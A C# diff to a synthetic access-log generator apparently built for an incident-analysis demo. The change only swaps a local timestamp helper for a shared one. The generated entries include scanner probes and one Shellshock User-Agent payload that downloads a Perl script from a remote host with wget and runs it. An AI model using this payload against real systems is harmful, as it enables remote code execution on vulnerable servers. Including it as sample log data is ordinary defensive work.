@@ -21,10 +21,10 @@ internal static class DemoAccessLog
     internal static readonly DateTimeOffset AttackRampFrom = DemoIncident.AttackFrom.AddMinutes(-3);
 
     /// <summary>Tomcat (the java the OOM killer takes first) answers nothing until the admin restarts it.</summary>
-    private static readonly DateTimeOffset TomcatBack = new(2015, 8, 17, 12, 38, 20, TimeSpan.FromHours(9));
+    private static readonly DateTimeOffset TomcatBack = DemoIncident.At(12, 38, 20);
 
-    private static readonly DateTimeOffset ThrashFrom = new(2015, 8, 17, 12, 22, 0, TimeSpan.FromHours(9));
-    private static readonly DateTimeOffset ThrashTo = new(2015, 8, 17, 12, 34, 0, TimeSpan.FromHours(9));
+    private static readonly DateTimeOffset ThrashFrom = DemoIncident.At(12, 22);
+    private static readonly DateTimeOffset ThrashTo = DemoIncident.At(12, 34);
 
     private const string Chrome = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/44.0.2403.155 Safari/537.36";
     private const string ChromeWin10 = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/44.0.2403.155 Safari/537.36";
@@ -208,7 +208,7 @@ internal static class DemoAccessLog
         for (var i = 0; i < 6; i++)
         {
             var page = Pages[(i * 5) % Pages.Length];
-            requests.Add(new(At(11, 22, 10 + i * 9), "151.80.31.145", "GET", page.Path, "HTTP/1.1", 200, page.Bytes, "-", AhrefsBot));
+            requests.Add(new(DemoIncident.At(11, 22, 10 + i * 9), "151.80.31.145", "GET", page.Path, "HTTP/1.1", 200, page.Bytes, "-", AhrefsBot));
         }
     }
 
@@ -240,12 +240,12 @@ internal static class DemoAccessLog
         string[] probes = ["/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/phpMyAdmin/scripts/setup.php", "/pma/", "/myadmin/"];
         for (var i = 0; i < probes.Length; i++)
         {
-            requests.Add(new(At(11, 37, 12 + i), "185.130.5.224", "GET", probes[i], "HTTP/1.1", 404, 208 + probes[i].Length, "-", Scanner));
+            requests.Add(new(DemoIncident.At(11, 37, 12 + i), "185.130.5.224", "GET", probes[i], "HTTP/1.1", 404, 208 + probes[i].Length, "-", Scanner));
         }
         // A Shellshock probe, still common in 2015: Apache escapes the quotes of its User-Agent.
-        requests.Add(new(At(12, 44, 51), "89.248.172.16", "GET", "/cgi-bin/test.cgi", "HTTP/1.1", 404, 213, "-",
+        requests.Add(new(DemoIncident.At(12, 44, 51), "89.248.172.16", "GET", "/cgi-bin/test.cgi", "HTTP/1.1", 404, 213, "-",
             "() { :;}; /bin/bash -c \"wget -q -O /tmp/.x http://89.248.172.16/x.pl; perl /tmp/.x\""));
-        for (var time = At(11, 0, 7); time < DemoIncident.End; time = time.AddMinutes(5))
+        for (var time = DemoIncident.At(11, 0, 7); time < DemoIncident.End; time = time.AddMinutes(5))
         {
             requests.Add(new(time, "153.127.33.20", "GET", "/", "HTTP/1.0", 200, 18342, "-", NagiosCheck));
         }
@@ -262,8 +262,6 @@ internal static class DemoAccessLog
             }
         }
     }
-
-    private static DateTimeOffset At(int hour, int minute, int second) => new(2015, 8, 17, hour, minute, second, TimeSpan.FromHours(9));
 
     private static double Exponential(Random random, double mean) => -mean * Math.Log(1 - random.NextDouble());
 
